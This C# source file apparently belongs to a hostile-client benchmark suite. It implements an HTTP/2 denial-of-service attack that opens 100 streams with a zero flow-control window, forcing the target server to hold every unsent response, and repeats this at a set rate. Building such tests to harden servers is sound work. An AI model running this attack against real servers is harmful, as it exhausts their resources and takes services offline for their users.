// SPDX-License-Identifier: Apache-2.0
using System.Net.Security;

namespace Sealock.Bench.Hostile.Attacks;

/// <summary>HTTP/2 requests whose answers may not be sent, since the client gives no room: each is kept by the server.</summary>
internal sealed class ClosedWindows(Strength strength) : Attack("closed-windows", "HTTP/2 streams without a window", "streams", strength)
{
    private const int Streams = 100;

    public override double OpenedPerSecond => Strength.PerSecond / Streams;

    protected override async Task AttackAsync(Victim victim, int number, Pacer pacer, Tally tally, CancellationToken cancellationToken)
    {
        await using var stream = await victim.ConnectTlsAsync(SslApplicationProtocol.Http2, cancellationToken);
        tally.Connected();
        var frames = Frames.Preface(window: 0);
        var block = Frames.Block("GET", victim.Path, victim.Token);
        for (var i = 0; i < Streams; i++)
            frames.Request(1 + (2 * i), block);
        await stream.WriteAsync(frames.Bytes, cancellationToken);
        tally.Did(Streams);
        await stream.CopyToAsync(Stream.Null, cancellationToken);
    }
}
